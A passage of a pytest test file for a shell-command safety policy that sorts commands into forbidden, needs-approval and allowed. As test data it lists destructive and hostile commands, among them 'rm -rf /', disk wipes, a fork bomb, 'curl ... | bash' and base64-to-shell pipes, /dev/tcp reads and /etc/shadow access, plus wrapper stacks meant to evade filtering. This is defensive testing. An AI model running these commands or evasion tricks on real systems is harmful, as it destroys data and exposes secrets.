    row("find-exec-rm-tmp", r"find /tmp -type f -mtime +7 -exec rm {} \;", A),
    row("journal-vacuum", "journalctl --vacuum-time=7d", A),
    row("sysctl-append", 'echo "vm.swappiness=10" >> /etc/sysctl.conf', A),
    row("ufw-allow", "ufw allow 443/tcp", A),
    row("iptables-append", "iptables -A INPUT -p tcp --dport 443 -j ACCEPT", A),
    row("dd-swapfile", "dd if=/dev/zero of=/swapfile bs=1M count=1024", A),
    row("dd-backup-disk", "dd if=/dev/sda of=/backup/disk.img bs=4M", A),
    row("mkswap-file", "mkswap /swapfile", A),
    row("curl-health", "curl -fsS https://example.com/health", A),
    row("wget-file", "wget https://example.com/app.tar.gz -O /tmp/app.tar.gz", A),
    row("script", "./deploy.sh", A),
    row("bash-script", "bash /opt/scripts/backup.sh", A),
    row("backup-etc", "tar czf /backup/etc.tar.gz /etc", A),
    row("rsync-backup", "rsync -a --delete /srv/app/ /srv/app-backup/", A),
    row("ln-site", "ln -sf /etc/nginx/sites-available/site /etc/nginx/sites-enabled/site", A),
    row("sed-nginx", "sed -i 's/worker_processes 1/worker_processes 2/' /etc/nginx/nginx.conf", A),
    row("truncate-app-log", "truncate -s 0 /var/log/app.log", A),
    row("psql", "sudo -u postgres psql -c 'select 1'", A),
    row("shutdown-cancel", "shutdown -c", A),
    row("ssh-uptime", "ssh web2 uptime", A),
    row("cat-shadow-needs-a-person", "cat /etc/shadow", A),
    row("sudo-readonly-needs-a-person", "sudo journalctl -u nginx -n 20", A),
    row("echo-dangerous-text", 'echo "never run rm -rf /"', OK),
    row("grep-for-dangerous-text", "grep 'rm -rf /' /var/log/auth.log", OK),
    # issue 15: shell histories keep typed passwords; reading one needs a person
    row("grep-history-for-text", "grep 'rm -rf /' ~/.bash_history", A),
    row("commit-message", 'git commit -m "stop using rm -rf / in docs"', A),
    row("git-config-flag", "git -c user.name=bot commit -m 'deploy'", A),
    row("tar-backup", "tar czf /backup/www.tgz /var/www", A),
    row("alias-harmless", "alias ll='ls -la'", A),
    row("trap-harmless", "trap 'echo bye' EXIT; uptime", A),
    row("crontab-install", "echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -", A),
    row("ssh-option", "ssh -o StrictHostKeyChecking=no web2 uptime", A),
    row("ip-route-get", "ip route get 1.1.1.1", OK),
    row("find-named-delete", "find /var/tmp -name '*.tmp' -delete", A),
]


@pytest.mark.parametrize(("command", "expected"), EVERYDAY)
def test_everyday_admin_commands_are_not_forbidden(command: str, expected: Expected) -> None:
    decision = judge(command)
    assert decision.verdict is not F, decision
    assert_verdict(decision, expected, command)


CORES = [
    "rm -rf /",
    "rm -rf /etc",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda",
    "reboot",
    "chmod -R 777 /",
    "kill -9 1",
    "iptables -F",
    "systemctl stop sshd",
    "cp /dev/null /etc/shadow",
]
# (wrapper, whether it only works in front of a simple command, whether the result is simple)
WRAPPERS: list[tuple[Callable[[str], str], bool, bool]] = [
    (lambda c: f"sudo {c}", True, True),
    (lambda c: f"sudo -u root {c}", True, True),
    (lambda c: f"env -i {c}", True, True),
    (lambda c: f"nice -n 10 {c}", True, True),
    (lambda c: f"timeout 30 {c}", True, True),
    (lambda c: f"sh -c {shlex.quote(c)}", False, True),
    (lambda c: f"bash -lc {shlex.quote(c)}", False, True),
    (lambda c: f"eval {shlex.quote(c)}", False, True),
    (lambda c: f"({c})", False, False),
    (lambda c: f"{{ {c}; }}", False, False),
    (lambda c: f"true && {c}", False, False),
    (lambda c: f"uptime; {c}", False, False),
    (lambda c: f"echo $({c})", False, True),
    (lambda c: f"if true; then {c}; fi", False, False),
    (lambda c: f"ssh db1 {shlex.quote(c)}", False, True),
    (lambda c: f"su -c {shlex.quote(c)}", False, True),
    (lambda c: f"echo {shlex.quote(c)} | sh", False, False),
    (lambda c: f"bash <<< {shlex.quote(c)}", False, True),
    (lambda c: f'X={shlex.quote(c)}; eval "$X"', False, False),
]


BENIGN_CORES = [
    "ls -la /var/log",
    "systemctl restart nginx",
    "rm -rf /tmp/build",
    "docker ps",
    "kill 12345",
    "chmod -R 755 /var/www/site",
    "journalctl -u nginx -n 50",
    "apt-get install -y htop",
    "cat /etc/passwd",
    "find /var/log -name '*.gz' -mtime +30 -delete",
]


def wrapped_commands(count: int, seed: int = 20240501, cores: list[str] = CORES) -> list[str]:
    """Random stacks of wrappers around core commands, as bash would run them."""
    rng = random.Random(seed)
    commands = []
    for _ in range(count):
        command, simple = rng.choice(cores), True
        for _ in range(rng.randint(1, 3)):
            wrap, _, gives_simple = rng.choice([w for w in WRAPPERS if simple or not w[1]])
            command, simple = wrap(command), gives_simple
        commands.append(command)
    return commands


@pytest.mark.parametrize("command", wrapped_commands(300))
def test_wrapping_a_forbidden_command_keeps_it_forbidden(command: str) -> None:
    decision = judge(command)
    assert decision.verdict is F, (command, decision)


@pytest.mark.parametrize("command", wrapped_commands(100, seed=7, cores=BENIGN_CORES))
def test_wrapping_an_everyday_command_does_not_forbid_it(command: str) -> None:
    decision = judge(command)
    assert decision.verdict is not F, (command, decision)


def test_the_corpus_is_big_enough() -> None:
    assert len(DANGEROUS) >= 150
    assert len(EVERYDAY) >= 50


# ============================================================================================
# Read-only auto-approval, modes, levels, hosts


def test_read_only_commands_need_a_person_unless_auto_approve_is_on() -> None:
    manual = judge("df -h", config=PolicyConfig())
    assert manual.verdict is A
    assert manual.rule == "readonly-manual"
    assert judge("df -h", config=AUTO).verdict is OK


@pytest.mark.parametrize(
    "command",
    [
        "find /var -name x -delete",
        "sort -o /etc/hosts /tmp/h",
        "journalctl --vacuum-size=100M",
        "dmesg -c",
        "date -s '2020-01-01'",
        "hostname newname",
        "sysctl -w net.ipv4.ip_forward=1",
        "ip link set eth0 down",
        "ls > /tmp/listing",
        "LD_PRELOAD=/tmp/evil.so ls",
        "PATH=/tmp:$PATH ls",
        "/tmp/ls -la",
        "./ls",
        "git branch -D main",
        "ss -K dst 10.0.0.1",
        "ps auxe",
        "cat /etc/*",
        "grep -r root /etc",
        "cat .env",
        "env",
        "exec 3>/tmp/x",
        "exec 3</etc/shadow",
        'while read l; do echo "$l"; done < /etc/shadow',
        'for f in /etc/hosts /etc/shadow; do cat "$f"; done',
        "cat < /dev/tcp/example.com/80",
        "x=$(cat /tmp/n); echo $((x + 1))",
        "[[ $(nproc) -gt 2 ]] && echo big",
        "getent shadow",
        "dmesg -Tc",
        "ip xfrm state deleteall",
        "nft list tables \\; add table x",
        "printf -v name %s value",
        "test -v name",
        "ls *(e:'date':)",
    ],
)
def test_read_only_commands_that_write_or_leak_are_not_auto_approved(command: str) -> None:
    decision = judge(command)
    assert decision.verdict is A, decision


def test_a_configured_read_only_list_cannot_make_find_delete_read_only() -> None:
    config = PolicyConfig(readonly=(ReadOnlyRule.of("find"),), auto_approve_readonly=True)
    assert judge("find /tmp -name x", config=config).verdict is OK
    assert judge("find /tmp -name x -delete", config=config).verdict is A


def test_allowlist_mode_forbids_what_is_not_listed() -> None:
    config = PolicyConfig(
        mode="allowlist",
        allowlist=("systemctl restart nginx", "docker compose ..."),
        auto_approve_readonly=True,
    )
    assert judge("systemctl restart nginx", config=config).verdict is A
    assert judge("sudo systemctl restart nginx", config=config).verdict is A
    assert judge("docker compose -f /srv/app/compose.yml up -d", config=config).verdict is A
    assert judge("uptime", config=config).verdict is OK
    refused = judge("systemctl restart postgresql", config=config)
    assert refused.verdict is F
    assert refused.rule == "allowlist"
    assert "systemctl restart postgresql" in refused.reason
    assert "web1" in refused.reason


def test_allowlist_mode_refuses_what_it_cannot_check() -> None:
    config = PolicyConfig(mode="allowlist", allowlist=("* ...",))
    assert judge("$CMD restart", config=config).verdict is F
    assert judge("echo 'unclosed", config=config).verdict is F
    assert judge("systemctl restart $UNIT", config=config).verdict is A


def test_allowlist_patterns_do_not_match_programs_outside_system_dirs() -> None:
    config = PolicyConfig(mode="allowlist", allowlist=("systemctl ...",))
    assert judge("/usr/bin/systemctl restart nginx", config=config).verdict is A
    assert judge("/tmp/systemctl restart nginx", config=config).verdict is F


def test_readonly_level_may_only_run_read_only_commands() -> None:
    assert judge("uptime", requester=VIEWER).verdict is OK
    refused = judge("systemctl restart nginx", requester=VIEWER)
    assert refused.verdict is F
    assert refused.rule == "level"
    assert "@viewer:example.org" in refused.reason
    assert "systemctl restart nginx" in refused.reason
    assert judge("echo 'unclosed", requester=VIEWER).verdict is F
    assert judge("uptime", requester=VIEWER, config=PolicyConfig()).verdict is A


def test_operator_and_admin_are_judged_alike() -> None:
    for command in ("systemctl restart nginx", "uptime", "rm -rf /"):
        assert judge(command, requester=OPERATOR).verdict is judge(command, requester=ADMIN).verdict


def test_unknown_level_is_forbidden() -> None:
    decision = judge("uptime", requester=Requester("@x:example.org", "superuser"))
    assert decision.verdict is F
    assert decision.rule == "unknown-level"


def test_per_host_overrides() -> None:
    config = PolicyConfig(
        auto_approve_readonly=True,
        hosts={
            "db1": HostPolicy(mode="allowlist", allowlist=("systemctl restart postgresql",)),
            "build-*": HostPolicy(auto_approve_readonly=False),
            "web1": HostPolicy(protected_paths=("/srv/www",)),
        },
    )
    assert judge("systemctl restart nginx", config=config, host="db1").verdict is F
    assert judge("systemctl restart postgresql", config=config, host="db1").verdict is A
    assert judge("systemctl restart nginx", config=config, host="web2").verdict is A
    assert judge("uptime", config=config, host="build-7").verdict is A
    assert judge("uptime", config=config, host="web2").verdict is OK
    assert judge("rm -rf /srv/www", config=config, host="web1").verdict is F
    assert judge("rm -rf /srv/www", config=config, host="web2").verdict is A


def test_host_workdir_and_env_are_used() -> None:
    config = PolicyConfig(
        hosts={
            "root-cwd": HostPolicy(workdir="/"),
            "app": HostPolicy(workdir="/srv/app", env=(("DATA", "/srv/data"),)),
        }
    )
    assert judge("rm -rf *", config=config, host="root-cwd").verdict is F
    assert judge("rm -rf ../../etc", config=config, host="app").verdict is F
    assert judge("rm -rf *", config=config, host="app").verdict is A
    assert judge("rm -rf $DATA/*", config=config, host="app").verdict is A
    assert judge("rm -rf $DATA/*", config=config, host="other").verdict is F
    with pytest.raises(PolicyConfigError):
        PolicyConfig(workdir="relative")


def test_extra_forbidden_rules_add_to_the_built_in_list() -> None:
    config = PolicyConfig(
        forbidden=(ForbiddenRule("crontab -r ...", "deletes every cron job of the user"),)
    )
    decision = judge("crontab -r", config=config)
    assert decision.verdict is F
    assert decision.reason == "forbidden: `crontab -r` deletes every cron job of the user"
    assert decision.rule == "custom:crontab -r ..."
    assert judge("sudo crontab -r -u deploy", config=config).verdict is F
    assert judge("crontab -l", config=config).verdict is not F


# ============================================================================================
# Failing closed


def test_unparseable_input_needs_a_person() -> None:
    decision = judge("echo 'unclosed")
    assert decision.verdict is A
    assert decision.rule == "unparseable"
    assert "unclosed single quote" in decision.reason


@pytest.mark.parametrize(
    "command",
    [
        'echo "unclosed',
        "cat <<EOF\nno end marker",
        "cat <<EOF",
        "echo $(date",
        "if true; then echo",
        "echo )",
        "case x in",
        "ls &&",
        "| grep x",
        "a=(unclosed",
    ],
)
def test_unreadable_shell_is_never_allowed(command: str) -> None:
    assert judge(command).verdict in NOT_ALLOWED


def test_internal_errors_fail_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(*args: object, **kwargs: object) -> object:
        raise RuntimeError("boom")

    monkeypatch.setattr("executor.shell.parse", explode)
    decision = judge("uptime")
    assert decision.verdict is F
    assert decision.rule == "internal-error"


def test_absurd_nesting_is_not_allowed() -> None:
    deep = "echo " + "$(" * 200 + "uptime" + ")" * 200
    assert judge(deep).verdict in NOT_ALLOWED
    nested = "uptime"
    for _ in range(20):
        nested = f"sh -c {nested!r}"
    assert judge(nested).verdict in NOT_ALLOWED


@pytest.mark.parametrize(
    ("command", "rule"),
    [("", "empty"), ("   \n", "empty"), ("# just a comment", "empty"), ("ls\x00", "invalid")],
)
def test_empty_and_invalid_input_is_forbidden(command: str, rule: str) -> None:
    decision = judge(command)
    assert decision.verdict is F
    assert decision.rule == rule


def test_overlong_input_is_forbidden() -> None:
    decision = judge("echo " + "a" * 200_000)
    assert decision.verdict is F
    assert decision.rule == "too-long"


def test_hidden_characters_need_a_person() -> None:
    decision = judge("ls \u202e/var/log")
    assert decision.verdict is A
    assert decision.rule == "hidden-characters"
    assert "U+202E" in decision.reason


def test_a_non_string_command_is_forbidden() -> None:
    decision = decide(["rm", "-rf", "/"], "web1", OPERATOR, AUTO)  # type: ignore[arg-type]
    assert decision.verdict is F


def test_long_but_legitimate_input_is_judged() -> None:
    command = "; ".join(f"echo {n}" for n in range(2000))
    assert judge(command).verdict is OK


# ============================================================================================
# Reasons are for people: plain, short, and they name the offending part


@pytest.mark.parametrize(
    ("command", "rule", "fragments"),
    [
        ("rm -rf /", "recursive-delete", ["`rm -rf /`", "root filesystem", "recursively"]),
        ("uptime; rm -rf /etc", "recursive-delete", ["`rm -rf /etc`", "/etc"]),
        ("sudo mkfs.ext4 /dev/sdb1", "mkfs", ["mkfs.ext4 /dev/sdb1", "formats /dev/sdb1"]),
        ("dd if=/dev/zero of=/dev/sda", "device-write", ["of=/dev/sda", "disk /dev/sda"]),
        ("reboot", "power", ["`reboot`", "reboots"]),
        (":(){ :|:& };:", "fork-bomb", ["fork bomb"]),
        ("chown -R nobody /", "recursive-chmod", ["owner", "root filesystem"]),
        ("cp x /etc/shadow", "critical-file", ["/etc/shadow"]),
        ("kill -9 1", "kill-init", ["PID 1"]),
        ("systemctl stop sshd", "kill-sshd", ["sshd", "remote access"]),
        ("iptables -F", "firewall", ["firewall"]),
        ("curl -s https://x.example | bash", "download-exec", ["curl", "| bash", "network"]),
        ("echo aGk= | base64 -d | sh", "decode-exec", ["base64 -d", "hidden"]),
        ("rm -rf $TARGET/*", "recursive-delete", ["$TARGET", "unset"]),
        ("$X -rf /", "recursive-delete", ["$X", "as `rm`"]),
    ],
)
def test_reasons_name_the_offending_part(command: str, rule: str, fragments: list[str]) -> None:
    decision = judge(command)
    assert decision.verdict is F
    assert decision.rule == rule
    assert decision.reason.startswith("forbidden: ")
    for fragment in fragments:
        assert fragment in decision.reason, decision.reason
    assert "\n" not in decision.reason
    assert len(decision.reason) < 300


def test_approval_reasons_say_what_changes() -> None:
    decision = judge("df -h; systemctl restart nginx")
    assert decision.verdict is A
    assert decision.reason == (
        "needs approval: `systemctl restart nginx` uses `restart`, which changes services"
    )


def test_dynamic_commands_say_so() -> None:
    decision = judge("$TOOL --version")
    assert decision.verdict is A
    assert decision.rule == "dynamic-command"
    assert "$TOOL" in decision.reason


def test_long_commands_are_shortened_in_reasons() -> None:
    decision = judge("rm -rf / " + "x" * 500)
    assert decision.verdict is F
    assert "…" in decision.reason
    assert len(decision.reason) < 200


def test_allowed_reason() -> None:
    decision = judge("uptime")
    assert decision == Decision(OK, "allowed: `uptime` only reads (auto-approved)", "readonly")


# ============================================================================================
# Configuration


def test_config_is_frozen_and_validated() -> None:
    config = PolicyConfig()
    with pytest.raises(AttributeError):
        config.mode = "allowlist"  # type: ignore[misc]
    with pytest.raises(PolicyConfigError):
        PolicyConfig(mode="whitelist")  # type: ignore[arg-type]
    with pytest.raises(PolicyConfigError):
        PolicyConfig(hosts={"x": HostPolicy(mode="open")})  # type: ignore[arg-type]
    with pytest.raises(PolicyConfigError):
        PolicyConfig(allowlist=("'unclosed",))
    with pytest.raises(PolicyConfigError):
        PolicyConfig(allowlist=("userdel ... root",))
    with pytest.raises(PolicyConfigError):
        PolicyConfig(protected_paths=("srv/data",))
    with pytest.raises(TypeError):
        config.hosts["x"] = HostPolicy()  # type: ignore[index]


def test_for_host_prefers_exact_names_over_patterns() -> None:
    config = PolicyConfig(
        hosts={"web-*": HostPolicy(mode="allowlist"), "web-1": HostPolicy(mode="blocklist")}
    )
    assert config.for_host("web-1").mode == "blocklist"
    assert config.for_host("web-2").mode == "allowlist"
    assert config.for_host("db").mode == "blocklist"


@pytest.mark.parametrize(
    ("pattern", "argv", "expected"),
    [
        ("systemctl restart nginx", ["systemctl", "restart", "nginx"], True),
        ("systemctl restart nginx", ["systemctl", "restart", "nginx", "x"], False),
        ("systemctl restart *", ["systemctl", "restart", "php8.2-fpm"], True),
        ("systemctl restart *", ["systemctl", "restart"], False),
        ("journalctl ...", ["journalctl"], True),
        ("journalctl ...", ["journalctl", "-u", "x"], True),
        ("docker compose ...", ["/usr/bin/docker", "compose", "up"], True),
        ("docker compose ...", ["/opt/docker", "compose", "up"], False),
    ],
)
def test_pattern_matches(pattern: str, argv: list[str], expected: bool) -> None:
    assert pattern_matches(pattern, argv) is expected


def test_shipped_readonly_list_matches_the_built_in_default() -> None:
    assert load_readonly(REPO / "executor/policy/data/readonly.yaml") == DEFAULT_READONLY


def test_shipped_forbidden_list_loads() -> None:
    extra = load_forbidden(REPO / "executor/policy/data/forbidden.yaml")
    config = load_config(
        REPO / "executor/policy/data/readonly.yaml", REPO / "executor/policy/data/forbidden.yaml"
    )
    assert config.forbidden == extra.rules
    assert config.readonly == DEFAULT_READONLY
    assert judge("crontab -r", config=config).verdict is F
    assert judge("sudo passwd -d root", config=config).verdict is F
    assert judge("crontab -l", config=config).verdict is A


def test_load_readonly_accepts_plain_and_detailed_entries(tmp_path: Path) -> None:
    path = tmp_path / "readonly.yaml"
    path.write_text(
        "commands:\n  - uptime\n  - systemctl status\n"
        "  - command: journalctl\n    deny: ['--vacuum*']\n",
        encoding="utf-8",
    )
    assert load_readonly(path) == (
        ReadOnlyRule(("uptime",)),
        ReadOnlyRule(("systemctl", "status")),
        ReadOnlyRule(("journalctl",), ("--vacuum*",)),
    )


@pytest.mark.parametrize(
    "text",
    ["commands: 3\n", "commands:\n  - {deny: [x]}\n", "commands:\n  - ''\n", "[unclosed\n"],
)
def test_load_readonly_rejects_nonsense(tmp_path: Path, text: str) -> None:
    path = tmp_path / "readonly.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(PolicyConfigError):
        load_readonly(path)


def test_load_forbidden(tmp_path: Path) -> None:
    path = tmp_path / "forbidden.yaml"
    path.write_text(
        "commands:\n  - pattern: 'crontab -r ...'\n    reason: deletes every cron job\n"
        "protected_paths: [/srv/data]\n",
        encoding="utf-8",
    )
    extra = load_forbidden(path)
    assert extra.rules == (ForbiddenRule("crontab -r ...", "deletes every cron job"),)
    assert extra.protected_paths == ("/srv/data",)
    config = load_config(forbidden_path=path, base=AUTO)
    assert judge("rm -rf /srv/data", config=config).verdict is F
    assert judge("crontab -r", config=config).verdict is F


@pytest.mark.parametrize(
    "text",
    [
        "- not a mapping\n",
        "commands:\n  - pattern: x\n",
        "protected_paths: [relative/path]\n",
        'commands:\n  - pattern: "\'unclosed"\n    reason: x\n',
    ],
)
def test_load_forbidden_rejects_nonsense(tmp_path: Path, text: str) -> None:
    path = tmp_path / "forbidden.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(PolicyConfigError):
        load_forbidden(path)


def test_missing_policy_file_is_a_config_error(tmp_path: Path) -> None:
    with pytest.raises(PolicyConfigError):
        load_readonly(tmp_path / "nope.yaml")


def test_built_in_lists_cover_the_spec() -> None:
    for path in ("/etc", "/usr", "/var", "/boot", "/home", "/root", "/bin", "/lib"):
        assert path in PROTECTED_PATHS
    assert {"/etc/passwd", "/etc/shadow", "/etc/sudoers"} <= CRITICAL_FILES
    assert ReadOnlyRule(("systemctl",)) in DEFAULT_READONLY  # its spec finds the read-only verbs
